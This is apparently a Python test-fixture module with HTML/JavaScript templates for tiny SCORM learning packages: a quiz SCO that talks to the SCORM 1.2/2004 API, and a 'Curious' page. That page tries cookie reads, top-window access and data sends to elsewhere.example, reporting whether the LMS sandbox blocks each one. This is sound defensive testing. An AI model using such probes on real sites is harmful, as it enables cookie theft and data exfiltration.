"""Pages of our tiny SCOs."""

SCO_JS = """\
// Finds the API object as the standards say, and speaks both of them.
(function () {
  "use strict";
  function find(name) {
    for (var win = window, up = 0; up < 500; win = win.parent, up += 1) {
      if (win[name]) return win[name];
      if (win.parent === win) break;
    }
    return window.opener ? window.opener[name] : null;
  }
  var api12 = find("API");
  var api = api12 || find("API_1484_11");
  var names = api12
    ? { status: "cmi.core.lesson_status", place: "cmi.core.lesson_location",
        raw: "cmi.core.score.raw", time: "cmi.core.session_time", exit: "cmi.core.exit",
        entry: "cmi.core.entry", answer: "student_response", wrong: "wrong",
        span: "0000:00:30", latency: "00:00:05" }
    : { status: "cmi.completion_status", place: "cmi.location", raw: "cmi.score.raw",
        time: "cmi.session_time", exit: "cmi.exit", entry: "cmi.entry",
        answer: "learner_response", wrong: "incorrect", span: "PT30S", latency: "PT5S" };
  function call(name) {
    var method = api12 ? "LMS" + name : name.replace("Finish", "Terminate");
    return api ? api[method].apply(api, [].slice.call(arguments, 1)) : "";
  }
  function set(name, value) { return call("SetValue", name, value); }
  function say(text) { document.getElementById("said").textContent = text; }
  function answer(isRight) {
    var row = "cmi.interactions." + call("GetValue", "cmi.interactions._count");
    set(row + ".id", "sum");
    set(row + ".type", "choice");
    set(row + ".correct_responses.0.pattern", "4");
    set(row + "." + names.answer, isRight ? "4" : "5");
    set(row + ".result", isRight ? "correct" : names.wrong);
    set(row + ".latency", names.latency);
    set(names.raw, isRight ? "100" : "0");
    if (!api12) set("cmi.score.scaled", isRight ? "1" : "0");
    set(names.place, "answered");
    set("cmi.suspend_data", isRight ? "right" : "wrong");
    call("Commit", "");
    say("answered");
  }
  function leave(status, exit) {
    set(names.status, status);
    set(names.time, names.span);
    set(names.exit, exit);
    call("Finish", "");
    say("left: " + exit);
  }
  window.addEventListener("load", function () {
    call("Initialize", "");
    var entry = call("GetValue", names.entry);
    var place = entry === "ab-initio" ? "" : call("GetValue", names.place);
    say("entry: " + entry + "; place: " + place);
    document.getElementById("right").onclick = function () { answer(true); };
    document.getElementById("wrong").onclick = function () { answer(false); };
    document.getElementById("pause").onclick = function () { leave("incomplete", "suspend"); };
    document.getElementById("finish").onclick = function () { leave("completed", ""); };
  });
})();
"""

SCO_HTML = """\
<!DOCTYPE html>
<html lang="ru">
<head><meta charset="utf-8"><title>{title}</title><script src="{script}"></script></head>
<body>
<h1>{title}</h1>
<p>2 + 2?</p>
<p><button id="right">4</button> <button id="wrong">5</button></p>
<p><button id="pause">Pause</button> <button id="finish">Finish</button></p>
<p id="said" role="status"></p>
</body>
</html>
"""

ASSET_HTML = """\
<!DOCTYPE html>
<html lang="ru"><head><meta charset="utf-8"><title>{title}</title></head>
<body><h1>{title}</h1></body></html>
"""

CURIOUS_HTML = """\
<!DOCTYPE html>
<html lang="ru"><head><meta charset="utf-8"><title>Curious</title></head>
<body>
<h1>Curious</h1>
<ul id="got"></ul>
<script>
// Tries what a hostile package would try; every line says "kept out" or what it got.
function attempt(name, act) {
  var line = document.createElement("li");
  line.id = name;
  document.getElementById("got").appendChild(line);
  function show(text) { line.textContent = name + ": " + text; }
  try {
    var got = act(show);
    if (got !== undefined) show(got ? "GOT " + String(got).slice(0, 60) : "kept out");
  } catch (error) { show("kept out"); }
}
attempt("cookie", function () { return document.cookie; });
attempt("site-document", function () { return window.top.document.title; });
attempt("site-address", function () { return window.top.location.href; });
attempt("site-storage", function () { return window.top.localStorage.length + 1; });
attempt("opener", function () { return window.opener && window.opener.document.title; });
attempt("navigate", function (show) {
  window.top.location = "https://elsewhere.example/";
  show("asked");
});
attempt("fetch", function (show) {
  fetch("https://elsewhere.example/?q=1").then(function () { show("GOT out"); },
    function () { show("kept out"); });
});
attempt("beacon", function () { return navigator.sendBeacon("https://elsewhere.example/", "1"); });
attempt("picture", function (show) {
  var image = new Image();
  image.onload = function () { show("GOT out"); };
  image.onerror = function () { show("kept out"); };
  image.src = "https://elsewhere.example/1.png";
});
attempt("form", function (show) {
  var form = document.createElement("form");
  form.action = "https://elsewhere.example/";
  form.target = "_blank";
  document.body.appendChild(form);
  form.submit();
  show("asked");
});
</script>
</body></html>
"""
